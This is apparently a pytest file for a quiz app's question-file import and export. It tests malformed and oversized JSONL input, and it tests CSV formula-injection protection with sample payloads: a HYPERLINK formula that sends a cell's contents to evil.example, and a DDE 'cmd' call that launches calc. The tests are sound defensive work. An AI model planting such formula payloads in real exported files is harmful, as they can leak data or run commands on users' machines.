"""Question files from anywhere: every bad one is one QAFileError sentence ("line N: …"),
and CSV cells a spreadsheet would run as formulas are written as text and read back exact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from desktop.cli import build_parser
from desktop.cli.quiz_command import quiz_command
from desktop.core.quiz import qa_io
from desktop.core.quiz.qa import QAPair
from desktop.core.quiz.qa_io import QAFileError, read_pairs, write_pairs

GOOD = '{"question": "Who?", "answer": "Curie"}\n'
HOSTILE_JSONL = {
    "100,000 nested arrays": (
        GOOD + '{"question": ' + "[" * 100_000 + "]" * 100_000 + ', "answer": "a"}\n',
        2,
        "nested too deeply to read",
    ),
    "100,000 nested objects": (
        '{"a": ' * 100_000 + "1" + "}" * 100_000 + "\n",
        1,
        "nested too deeply to read",
    ),
    "5,000-digit answer": (
        '{"question": "q", "answer": ' + "9" * 5000 + "}\n",
        1,
        "a number 5,000 characters long",
    ),
    "5,000-digit number in an extra key": (
        GOOD + GOOD + '{"question": "q", "answer": "a", "n": -' + "1" * 5000 + "}\n",
        3,
        "a number 5,001 characters long",
    ),
    "NaN": ('{"question": "q", "answer": NaN}\n', 1, "NaN is not a JSON value"),
    "Infinity": ('{"question": "q", "answer": -Infinity}\n', 1, "-Infinity is not a JSON value"),
}


@pytest.mark.parametrize("kind", HOSTILE_JSONL)
def test_hostile_jsonl_is_one_line_error(tmp_path: Path, kind: str) -> None:
    content, line, words = HOSTILE_JSONL[kind]
    path = tmp_path / "hostile.jsonl"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(QAFileError) as caught:
        read_pairs(path)
    assert caught.value.line == line
    assert str(caught.value).startswith(f"line {line}: ") and words in str(caught.value)
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 200


def test_numbers_are_read_as_written(tmp_path: Path) -> None:
    path = tmp_path / "numbers.jsonl"
    path.write_text('{"question": "Pi to two places?", "answer": 3.10}\n'
                    '{"question": 1889, "answer": 1e3}\n', encoding="utf-8")  # fmt: skip
    assert [(p.question, p.answer) for p in read_pairs(path)] == [
        ("Pi to two places?", "3.10"),  # a float would say 3.1
        ("1889", "1e3"),
    ]


def test_a_huge_file_is_refused_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(qa_io, "MAX_FILE_BYTES", 1000)
    path = tmp_path / "huge.csv"
    path.write_text("question,answer\n" + "q?,a\n" * 1000, encoding="utf-8")
    with pytest.raises(QAFileError, match=r"huge\.csv is larger than 0 MB: not a question file"):
        read_pairs(path)


def test_cli_quiz_questions_with_deep_nesting_is_one_error_line(
    tmp_path: Path, tiny_gguf: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEEPDIVE_HOME", str(tmp_path / "home"))
    questions = tmp_path / "deep.jsonl"
    questions.write_text(HOSTILE_JSONL["100,000 nested arrays"][0], encoding="utf-8")
    args = build_parser().parse_args(
        ["quiz", "--model", str(tiny_gguf), "--article", "velmora", "--questions", str(questions)]
    )
    out, err = io.StringIO(), io.StringIO()
    assert quiz_command(args, out, err) == 2
    assert out.getvalue() == ""
    assert err.getvalue() == "error: line 2: nested too deeply to read (not a question file?)\n"


# --- CSV export: formulas are text (OWASP's leading "'"), and read back exact ---

FORMULAS = [
    QAPair('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "manual"),
    QAPair("=cmd|' /C calc'!A0", "+1", "model"),
    QAPair("-2+3", "@SUM(A1:A2)", "rules"),
    QAPair("\t=1+1 after a tab?", "\r=1+1 after a return", "import"),
]
APOSTROPHES = [  # cells that begin with "'" themselves
    QAPair("'tis the season?", "'=1+1", "manual"),
    QAPair("''=x", "'", "manual"),
    QAPair("'''", "'-5", "manual"),
]


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))[1:]


def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "pairs.csv"
    write_pairs(path, FORMULAS)
    for row in csv_cells(path):
        for cell in row[:2]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert cell.startswith("'")
    assert csv_cells(path)[0][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_formula_cells_round_trip_exactly(tmp_path: Path) -> None:
    path = tmp_path / "pairs.csv"
    write_pairs(path, FORMULAS[:3])
    assert read_pairs(path) == FORMULAS[:3]
    write_pairs(path, FORMULAS[3:])  # leading whitespace is stripped on reading, as always
    assert read_pairs(path) == [QAPair("=1+1 after a tab?", "=1+1 after a return", "import")]


def test_cells_that_begin_with_an_apostrophe_round_trip_exactly(tmp_path: Path) -> None:
    path = tmp_path / "pairs.csv"
    write_pairs(path, APOSTROPHES)
    assert read_pairs(path) == APOSTROPHES
    assert csv_cells(path)[0][:2] == ["''tis the season?", "''=1+1"]


def test_a_protected_cell_from_a_spreadsheet_reads_as_its_text(tmp_path: Path) -> None:
    path = tmp_path / "from-a-spreadsheet.csv"
    path.write_text("question,answer\n'=1+1?,'tis\n", encoding="utf-8")
    assert read_pairs(path) == [QAPair("=1+1?", "'tis", "import")]


def test_a_lone_carriage_return_inside_a_cell_round_trips(tmp_path: Path) -> None:
    """csv leaves a field with a lone "\r" unquoted, and a reader ends the row there."""
    path = tmp_path / "pairs.csv"
    pairs = [QAPair("Old Mac\rline ends?", "yes\rreally", "manual"), QAPair("Next?", "b")]
    write_pairs(path, pairs)
    assert read_pairs(path) == pairs


# --- what a model writes back when asked for questions ---


@pytest.mark.parametrize(
    "reply",
    ["[" * 5000 + "]" * 5000, "[" * 5000, '{"questions": ' * 3000 + "[]" + "}" * 3000],
)
def test_a_degenerate_model_reply_is_no_questions_not_an_exception(reply: str) -> None:
    from desktop.core.quiz.qa_parse import parse_qa_pairs

    assert parse_qa_pairs(reply) == []
    assert parse_qa_pairs("Q: Who found radium?\nA: Marie Curie\n\n" + reply) == [
        QAPair("Who found radium?", "Marie Curie", "model")
    ]


def test_a_lone_surrogate_is_refused_on_reading_and_writing(tmp_path: Path) -> None:
    """'\\ud800' is valid JSON, but no UTF-8 file (nor SQLite) can hold it."""
    path = tmp_path / "surrogate.jsonl"
    path.write_text(GOOD + '{"question": "q", "answer": "\\ud800"}\n', encoding="utf-8")
    with pytest.raises(QAFileError) as caught:
        read_pairs(path)
    assert str(caught.value) == "line 2: the answer holds an invalid character (a lone surrogate)"
    with pytest.raises(QAFileError, match=r"Cannot write out\.csv: a question or answer holds"):
        write_pairs(tmp_path / "out.csv", [QAPair("q", "\ud800")])
    assert not (tmp_path / "out.csv").exists()
